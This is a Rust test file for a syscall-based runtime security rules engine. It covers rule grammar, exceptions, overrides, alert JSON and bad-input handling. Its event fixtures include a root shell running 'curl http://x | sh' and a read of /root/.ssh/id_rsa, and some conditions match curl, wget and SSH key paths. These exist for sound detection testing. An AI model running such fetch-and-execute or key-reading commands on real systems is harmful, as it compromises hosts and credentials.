//! Engine tests: grammar and operators evaluated on events, override/append/exceptions,
//! output formatting, and bad input.

use pyward_rules::{
    Engine, EngineOptions, LoadOptions, ReplayEvent, RuleMatching, Ruleset, RulesetBuilder,
    Severity,
};

fn ruleset(yaml: &str) -> Ruleset {
    let mut b = RulesetBuilder::new(LoadOptions {
        warn_unused: false,
        ..LoadOptions::default()
    });
    b.load_str("test.yaml", yaml);
    b.build()
}

fn rule(cond: &str) -> String {
    format!(
        "- rule: r\n  desc: d\n  condition: {}\n  output: out %proc.name\n  priority: WARNING\n",
        serde_json::to_string(cond).unwrap()
    )
}

fn ev(json: &str) -> ReplayEvent {
    ReplayEvent::parse_line(json).unwrap_or_else(|e| panic!("{json}: {e}"))
}

const EXEC: &str = r#"{"time":1785419611726060287,"type":"execve","res":0,
 "proc":{"pid":42,"name":"bash","exe":"bash","exepath":"/usr/bin/bash","args":["-c","curl http://x | sh"],"cwd":"/tmp/","tty":34816,"env":{"HOME":"/root"}},
 "ancestors":[{"pid":41,"name":"python3","exepath":"/usr/bin/python3"},{"pid":40,"name":"jupyter-lab"},{"pid":1,"name":"systemd"}],
 "user":{"uid":0,"name":"root","loginuid":-1},"group":{"gid":0,"name":"root"},
 "container":{"id":"3ad7b26ded6d","name":"web","image_repository":"docker.io/library/nginx","image_tag":"1.27","privileged":true,"labels":{"app":"web"}},
 "args":{"filename":"/usr/bin/bash","flags":"EXE_WRITABLE|EXE_UPPER_LAYER"}}"#;

const CONNECT: &str = r#"{"time":1,"type":"connect","res":0,"proc":{"name":"python3"},
 "fd":{"num":3,"cip":"10.0.0.5","cport":40000,"sip":"192.0.2.7","sport":32258,"l4proto":"tcp"}}"#;

const OPEN: &str = r#"{"time":1,"type":"openat","res":3,"proc":{"name":"cat"},
 "fd":{"num":3,"type":"file","name":"/root/.ssh/id_rsa"},"args":{"flags":"O_RDONLY|O_CLOEXEC"},"buffer_hex":"cafebabe00"}"#;

/// Does the single-rule file with this condition load cleanly and match the event?
fn matches(cond: &str, event: &str) -> bool {
    let rs = ruleset(&rule(cond));
    let errs: Vec<String> = rs.errors().map(|d| d.to_string()).collect();
    assert!(errs.is_empty(), "{cond}: {errs:?}");
    let e = Engine::new(&rs, EngineOptions::default()).unwrap();
    !e.evaluate(&ev(event)).is_empty()
}

fn load_error(yaml: &str) -> String {
    let rs = ruleset(yaml);
    let e: Vec<String> = rs.errors().map(|d| d.to_string()).collect();
    assert!(!e.is_empty(), "expected an error for:\n{yaml}");
    e.join("\n")
}

#[test]
fn comparison_operators() {
    let yes = [
        "proc.name = bash",
        "proc.name == bash",
        "proc.name != sh",
        "proc.tty > 0",
        "proc.tty >= 34816",
        "proc.tty < 40000",
        "proc.tty <= 34816",
        "proc.cmdline contains curl",
        "proc.cmdline icontains CURL",
        "proc.exepath startswith /usr/",
        "proc.exepath endswith /bash",
        "proc.exepath glob '/usr/*/ba?h'",
        "proc.exepath iglob '/USR/*/BASH'",
        "proc.exepath regex '/usr/bin/b.*'",
        "proc.name in (sh, bash)",
        "proc.cwd pmatch (/tmp)",
        "proc.name exists",
        "proc.cmdline contains anyof (wget, curl)",
        "proc.cmdline contains allof (curl, sh)",
        "proc.cmdline contains oneof (curl, wget)",
        "proc.name = anyof (bash, zsh)",
        "proc.name != allof (sh, zsh)",
        "proc.exepath startswith anyof (/opt, /usr)",
        "proc.exepath endswith anyof (/sh, /bash)",
        "user.loginuid = -1",
        "user.uid = 0",
        "container.privileged = true",
        "evt.res = SUCCESS",
        "evt.rawres = 0",
        "evt.dir = <",
        "evt.dir=<",
        "proc.aname[1] = python3",
        "proc.aname[2] = jupyter-lab",
        "proc.aname = systemd",
        "proc.aname in (jupyter-lab)",
        "proc.pname = python3",
        "proc.env[HOME] = /root",
        "container.label[app] = web",
        "container.label.app = web",
        "evt.arg.flags contains EXE_WRITABLE",
        "evt.arg[0] = /usr/bin/bash",
        "proc.name intersects (bash, x)",
        "container.id != host",
        "group.name = root",
    ];
    for c in yes {
        assert!(matches(c, EXEC), "should match: {c}");
    }
    let no = [
        "proc.name = sh",
        "proc.name != bash",
        "proc.tty > 34816",
        "proc.cmdline contains wget",
        "proc.exepath regex 'bin/bash'", // full match, not search
        "proc.exepath glob '/usr/*/sh'",
        "proc.name in (sh, zsh)",
        "proc.cwd pmatch (/tm)",
        "proc.pname exists and proc.sname exists",
        "proc.cmdline contains allof (curl, wget)",
        "proc.cmdline contains oneof (curl, sh)",
        "proc.aname[3] = jupyter-lab",
        "proc.aname = nobody",
        "proc.env[PATH] exists",
        "fd.name exists",
        "fd.name != /x", // missing field: false for every operator
    ];
    for c in no {
        assert!(!matches(c, EXEC), "should not match: {c}");
    }
}

#[test]
fn network_and_bytes_operators() {
    for c in [
        "fd.sip = 192.0.2.7",
        "fd.snet = 192.0.2.0/24",
        "fd.net in (10.0.0.0/8)",
        "fd.ip = 10.0.0.5",
        "fd.sport = 32258",
        "fd.rport = 32258",
        "fd.lport = 40000",
        "fd.sip in (198.51.100.1, 192.0.2.7)",
        "fd.typechar = 4",
        "fd.type = ipv4",
        "fd.name = 10.0.0.5:40000->192.0.2.7:32258",
        "fd.l4proto = tcp",
        "fd.sockfamily = ip",
    ] {
        assert!(matches(c, CONNECT), "should match: {c}");
    }
    assert!(!matches("fd.snet = 198.51.100.0/24", CONNECT));
    assert!(!matches("fd.sip != 192.0.2.7", CONNECT));
    for c in [
        "evt.buffer bcontains CAFEBABE",
        "evt.buffer bstartswith cafe",
        "evt.is_open_read = true",
        "evt.is_open_write = false",
        "fd.directory = /root/.ssh",
        "fd.filename = id_rsa",
        "fd.typechar = f",
        "fd.name pmatch (/root/.ssh, /etc)",
        "evt.rawres >= 0",
    ] {
        assert!(matches(c, OPEN), "should match: {c}");
    }
    assert!(!matches("evt.buffer bcontains DEADBEEF", OPEN));
}

#[test]
fn precedence_and_quoting() {
    // not > and > or
    assert!(matches(
        "proc.name = sh or proc.name = bash and proc.tty > 0",
        EXEC
    ));
    assert!(!matches(
        "(proc.name = sh or proc.name = bash) and proc.tty = 0",
        EXEC
    ));
    assert!(matches("not proc.name = sh and not proc.name = zsh", EXEC));
    assert!(!matches("not (proc.name = bash or proc.name = sh)", EXEC));
    assert!(matches("not not proc.name = bash", EXEC));
    assert!(matches("not(proc.name = sh)", EXEC));
    // quoting: double, single, escaped quote, spaces in list items
    assert!(matches(
        "proc.cmdline = \"bash -c curl http://x | sh\"",
        EXEC
    ));
    assert!(matches("proc.cmdline = 'bash -c curl http://x | sh'", EXEC));
    assert!(matches(
        "proc.cmdline in (\"bash -c curl http://x | sh\", other)",
        EXEC
    ));
    assert!(!matches("proc.name = 'ba\\'sh'", EXEC));
}

#[test]
fn transformers_and_val() {
    for c in [
        "tolower(proc.name) = bash",
        "toupper(proc.name) = BASH",
        "basename(proc.exepath) = bash",
        "len(proc.name) = 4",
        "concat(proc.name, proc.pname) = bashpython3",
        "join(\"-\", (proc.name, proc.pname)) = bash-python3",
        "proc.name = val(proc.name)",
        "proc.name != val(proc.pname)",
        "toupper(proc.name) = toupper(proc.name)",
        "getopt(proc.args, \"c:\")[c] = curl",
    ] {
        assert!(matches(c, EXEC), "should match: {c}");
    }
    assert!(matches(
        "b64(proc.name) exists",
        r#"{"type":"execve","proc":{"name":"YmFzaA=="}}"#
    ));
    assert!(matches(
        "b64(proc.name) = bash",
        r#"{"type":"execve","proc":{"name":"YmFzaA=="}}"#
    ));
}

#[test]
fn lists_macros_and_event_types() {
    let y = r#"
- list: shells
  items: [sh, bash]
- list: more_shells
  items: [shells, zsh]
- macro: spawned
  condition: evt.type in (execve, execveat)
- rule: r
  desc: d
  condition: spawned and proc.name in (more_shells) and not proc.pname in (sshd)
  output: "x %proc.name"
  priority: notice
"#;
    let rs = ruleset(y);
    assert!(!rs.has_errors(), "{:?}", rs.diagnostics());
    assert_eq!(rs.lists()[1].items, vec!["sh", "bash", "zsh"]);
    assert_eq!(rs.rules()[0].event_types, vec!["execve", "execveat"]);
    let e = Engine::new(&rs, EngineOptions::default()).unwrap();
    assert_eq!(e.evaluate(&ev(EXEC)).len(), 1);
    // negated evt.type: every type but one → warning
    let rs = ruleset(&rule("evt.type != execve and proc.name = x"));
    assert!(rs.rules()[0].all_event_types || rs.rules()[0].event_types.len() > 300);
    let rs = ruleset(&rule("proc.name = x"));
    assert!(rs
        .warnings()
        .any(|d| d.message.contains("matches too many evt.type values")));
    let rs = ruleset(&format!(
        "{}  warn_evttypes: false\n",
        rule("proc.name = x")
    ));
    assert!(!rs.warnings().any(|d| d.message.contains("too many")));
}

#[test]
fn exceptions_append_override_enabled() {
    let y = r#"
- rule: shell
  desc: d
  condition: evt.type = execve and proc.name = bash
  output: "shell %proc.name"
  priority: WARNING
  tags: [a]
  exceptions:
    - name: parents
      fields: [proc.pname, user.name]
      comps: [=, startswith]
      values: [[python3, nobody]]
    - name: images
      fields: container.image.repository
      values: [docker.io/library/redis]
"#;
    let rs = ruleset(y);
    assert!(!rs.has_errors(), "{:?}", rs.diagnostics());
    let fires = |rs: &Ruleset| {
        !Engine::new(rs, EngineOptions::default())
            .unwrap()
            .evaluate(&ev(EXEC))
            .is_empty()
    };
    assert!(fires(&rs));
    // appending exception values: (python3, ro) matches pname=python3 and user startswith ro
    let y2 = format!("{y}\n- rule: shell\n  exceptions:\n    - name: parents\n      values: [[python3, ro]]\n  override:\n    exceptions: append\n");
    assert!(!fires(&ruleset(&y2)));
    let y3 = format!("{y}\n- rule: shell\n  exceptions:\n    - name: images\n      values: [docker.io/library/nginx]\n  override:\n    exceptions: append\n");
    assert!(!fires(&ruleset(&y3)));
    // override condition append / replace, priority replace, output append, tags append
    let y4 = format!("{y}\n- rule: shell\n  condition: and proc.tty = 0\n  priority: ERROR\n  override:\n    condition: append\n    priority: replace\n");
    let rs4 = ruleset(&y4);
    assert!(!rs4.has_errors(), "{:?}", rs4.diagnostics());
    assert!(!fires(&rs4));
    assert_eq!(rs4.rules()[0].priority, pyward_rules::Priority::Error);
    let y5 = format!("{y}\n- rule: shell\n  output: extra=%user.name\n  tags: [b]\n  override:\n    output: append\n    tags: append\n");
    let rs5 = ruleset(&y5);
    assert_eq!(rs5.rules()[0].output, "shell %proc.name extra=%user.name");
    assert_eq!(rs5.rules()[0].tags, vec!["a", "b"]);
    // legacy append
    let y6 = format!("{y}\n- rule: shell\n  append: true\n  condition: and proc.tty = 0\n");
    let rs6 = ruleset(&y6);
    assert!(!fires(&rs6));
    assert!(rs6.warnings().any(|d| d.message.contains("deprecated")));
    // enabled toggles
    let y7 = format!("{y}\n- rule: shell\n  enabled: false\n");
    assert_eq!(
        Engine::new(&ruleset(&y7), EngineOptions::default())
            .unwrap()
            .rule_count(),
        0
    );
    let y8 = format!("{y}\n- rule: shell\n  enabled: false\n  override:\n    enabled: replace\n");
    assert_eq!(
        Engine::new(&ruleset(&y8), EngineOptions::default())
            .unwrap()
            .rule_count(),
        0
    );
    // redefinition replaces
    let y9 = format!("{y}\n- rule: shell\n  desc: d2\n  condition: evt.type = execve and proc.name = zsh\n  output: o\n  priority: INFO\n");
    assert!(!fires(&ruleset(&y9)));
    // errors
    assert!(load_error(&format!(
        "{y}\n- rule: nope\n  append: true\n  condition: and x\n"
    ))
    .contains("no rule by that name"));
    assert!(load_error(&format!(
        "{y}\n- rule: shell\n  condition: and x\n  override:\n    priority: append\n"
    ))
    .contains("cannot be appended"));
    assert!(load_error(&format!("{y}\n- rule: shell\n  condition: and proc.tty = 0\n  desc: x\n  override:\n    condition: append\n")).contains("Unexpected key 'desc'"));
    assert!(load_error(&format!("{y}\n- rule: shell\n  exceptions:\n    - name: parents\n      fields: [proc.name]\n      values: [[x]]\n  override:\n    exceptions: append\n"))
        .contains("only values"));
}

#[test]
fn rule_matching_and_min_priority() {
    let y = format!(
        "{}\n- rule: r2\n  desc: d\n  condition: evt.type = execve\n  output: o\n  priority: DEBUG\n",
        rule("evt.type = execve and proc.name = bash")
    );
    let rs = ruleset(&y);
    let first = Engine::new(&rs, EngineOptions::default()).unwrap();
    assert_eq!(first.evaluate(&ev(EXEC)).len(), 1);
    let all = Engine::new(
        &rs,
        EngineOptions {
            rule_matching: RuleMatching::All,
            ..Default::default()
        },
    )
    .unwrap();
    assert_eq!(all.evaluate(&ev(EXEC)).len(), 2);
    let min = Engine::new(
        &rs,
        EngineOptions {
            rule_matching: RuleMatching::All,
            min_priority: pyward_rules::Priority::Notice,
            ..Default::default()
        },
    )
    .unwrap();
    assert_eq!(min.evaluate(&ev(EXEC)).len(), 1);
}

#[test]
fn output_and_alert_json() {
    let y = "- rule: Shell\n  desc: d\n  condition: evt.type = execve\n  output: \"Shell (user=%user.name uid=%user.uid p=%proc.aname[2] flags=%evt.arg.flags x=%fd.name)\"\n  priority: NOTICE\n  tags: [z, a, T1059]\n";
    let rs = ruleset(y);
    let e = Engine::new(&rs, EngineOptions::default()).unwrap();
    let event = ev(EXEC);
    let m = e.evaluate(&event);
    let a = m[0].to_alert(&event, "node-1");
    assert!(a.output.starts_with("13:53:31.726060287: Notice Shell (user=root uid=0 p=jupyter-lab flags=EXE_WRITABLE|EXE_UPPER_LAYER x=<NA>) container_id=3ad7b26ded6d"), "{}", a.output);
    assert_eq!(a.time, "2026-07-30T13:53:31.726060287Z");
    assert_eq!(a.tags, vec!["T1059", "a", "z"]);
    let j = serde_json::to_value(&a).unwrap();
    assert_eq!(j["priority"], "Notice");
    assert_eq!(j["source"], "syscall");
    assert_eq!(j["output_fields"]["user.uid"], 0);
    assert_eq!(j["output_fields"]["proc.aname[2]"], "jupyter-lab");
    assert!(j["output_fields"]["fd.name"].is_null());
    assert_eq!(j["output_fields"]["evt.time"], 1785419611726060287u64);
    assert_eq!(j["output_fields"]["k8s.ns.name"], serde_json::Value::Null);
    let keys: Vec<&String> = j.as_object().unwrap().keys().collect();
    assert_eq!(
        keys,
        [
            "hostname",
            "output",
            "output_fields",
            "priority",
            "rule",
            "source",
            "tags",
            "time"
        ]
    );
}

#[test]
fn errors_carry_positions_and_names() {
    let y = "- rule: bad\n  desc: d\n  condition: evt.type = execve and nosuch_macro\n  output: o\n  priority: WARNING\n";
    let rs = ruleset(y);
    let d = rs.errors().next().unwrap();
    assert_eq!(d.message, "Undefined macro 'nosuch_macro' used in filter.");
    assert_eq!((d.line, d.column), (3, 36));
    assert_eq!(d.item.as_deref(), Some("bad"));
    assert!(load_error(&rule("proc.nope = 1")).contains("test.yaml:3:15: error"));
    assert!(load_error(&rule("proc.nope = 1")).contains("nonexistent field proc.nope"));
    // skip-if-unknown-filter: warning, rule skipped
    let rs = ruleset(&format!(
        "{}  skip-if-unknown-filter: true\n",
        rule("evt.type = execve and proc.nope = 1")
    ));
    assert!(!rs.has_errors());
    assert!(rs
        .warnings()
        .any(|d| d.code.as_deref() == Some("LOAD_UNKNOWN_FILTER")));
    assert!(!rs.rules()[0].compiled);
    assert!(load_error(&rule("proc.name regex '('")).contains("invalid regular expression"));
    assert!(load_error(&rule("proc.name = 'abc")).contains("unterminated quoted string"));
    assert!(load_error(&rule("proc.name in nolist")).contains("Undefined list 'nolist'"));
    assert!(load_error(&rule("proc.tty > abc")).contains("not a valid number"));
    assert!(
        load_error("- rule: x\n  desc: d\n  output: o\n  priority: WARNING\n")
            .contains("Item has no mapping for key 'condition'")
    );
    assert!(
        load_error(&rule("evt.type = execve").replace("WARNING", "LOUD"))
            .contains("Invalid priority")
    );
    assert!(load_error("- required_engine_version: 9.0.0\n").contains("engine version"));
    // macro cycles
    let y = "- macro: a\n  condition: b\n- macro: b\n  condition: a\n".to_owned()
        + &rule("evt.type = execve and a");
    let e = load_error(&y);
    assert!(
        e.contains("Macro cycle") || e.contains("Undefined macro"),
        "{e}"
    );
    let y = "- macro: a\n  condition: evt.type = execve and a\n".to_owned() + &rule("a");
    assert!(load_error(&y).contains("Undefined macro 'a'"));
}

#[test]
fn warnings_for_unknown_keys_items_and_plugins() {
    let y = format!("- foo: bar\n- required_plugin_versions:\n  - name: k8saudit\n    version: 0.1.0\n  - name: container\n    version: 0.4.0\n{}  colour: red\n", rule("evt.type = execve"));
    let rs = ruleset(&y);
    assert!(!rs.has_errors(), "{:?}", rs.diagnostics());
    let w: Vec<String> = rs.warnings().map(|d| d.to_string()).collect();
    assert!(
        w.iter().any(|d| d.contains("Unknown top level item")),
        "{w:?}"
    );
    assert!(
        w.iter()
            .any(|d| d.contains("Unknown key 'colour'") && d.contains("test.yaml:12:3")),
        "{w:?}"
    );
    assert!(w.iter().any(|d| d.contains("k8saudit")), "{w:?}");
    assert!(!w.iter().any(|d| d.contains("'container'")), "{w:?}");
    // rules of other sources are kept, not evaluated
    let rs = ruleset(&format!(
        "{}  source: k8s_audit\n",
        rule("ka.verb = create")
    ));
    assert!(!rs.has_errors());
    assert!(!rs.rules()[0].compiled);
}

#[test]
fn bad_input_is_an_error_not_a_crash() {
    // malformed YAML
    assert!(load_error("- rule: [unclosed\n").contains("malformed YAML"));
    // not a sequence
    assert!(load_error("rule: x\n").contains("not yaml array of objects"));
    // alias bomb
    let mut s = String::from("- list: a0\n  items: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for i in 1..10 {
        let p = i - 1;
        s.push_str(&format!("- list: a{i}\n  items: &a{i} [*a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}]\n"));
    }
    let t = std::time::Instant::now();
    let e = load_error(&s);
    assert!(
        e.contains("alias") || e.contains("nodes") || e.contains("list items"),
        "{e}"
    );
    assert!(t.elapsed().as_secs() < 10);
    // 100,000-deep nesting
    let deep = format!(
        "{}proc.name = a{}",
        "(".repeat(100_000),
        ")".repeat(100_000)
    );
    let t = std::time::Instant::now();
    assert!(load_error(&rule(&deep)).contains("depth"));
    assert!(t.elapsed().as_secs() < 10);
    // 10 MB condition
    let big = "proc.name = a or ".repeat(10 * 1024 * 1024 / 17) + "proc.name = b";
    let t = std::time::Instant::now();
    assert!(load_error(&rule(&big)).contains("limit"));
    assert!(t.elapsed().as_secs() < 20);
    // non-UTF-8 bytes
    let mut b = RulesetBuilder::new(LoadOptions::default());
    b.load_bytes("bin.yaml", b"- rule: x\n  desc: \xff\xfe\n");
    let rs = b.build();
    let d = rs.errors().next().unwrap();
    assert!(d.message.contains("UTF-8") && d.line == 2, "{d}");
    // missing file
    let mut b = RulesetBuilder::new(LoadOptions::default());
    b.load_file("/nonexistent/rules.yaml");
    assert!(b
        .build()
        .errors()
        .next()
        .unwrap()
        .message
        .contains("could not read"));
    // a file over the size limit
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("big.yaml");
    std::fs::write(&p, vec![b'#'; 2048]).unwrap();
    let mut b = RulesetBuilder::new(LoadOptions {
        max_file_bytes: 1024,
        ..LoadOptions::default()
    });
    b.load_file(&p);
    assert!(b.build().has_errors());
    // bad events
    for line in [
        "",
        "{",
        "[]",
        r#"{"type":""}"#,
        r#"{"type":"execve","time":"yesterday"}"#,
        r#"{"type":"execve","bogus":1}"#,
        r#"{"type":"execve","dir":"?"}"#,
    ] {
        assert!(ReplayEvent::parse_line(line).is_err(), "{line}");
    }
}

#[test]
fn engine_refuses_a_ruleset_with_errors() {
    let rs = ruleset(&rule("proc.nope = 1"));
    assert!(rs.errors().all(|d| d.severity == Severity::Error));
    assert!(Engine::new(&rs, EngineOptions::default()).is_err());
}
